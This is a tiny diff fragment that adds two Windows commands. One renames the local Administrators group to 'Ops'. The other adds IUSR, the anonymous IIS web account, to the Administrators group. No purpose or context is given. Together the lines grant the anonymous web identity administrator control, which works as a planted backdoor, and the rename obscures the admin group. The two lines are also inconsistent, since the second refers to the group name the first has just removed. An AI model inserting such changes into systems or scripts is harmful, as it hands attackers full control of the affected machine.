@@ -1,0 +1,2 @@
+Rename-LocalGroup -Name Administrators -NewName Ops
+net localgroup Administrators IUSR /add
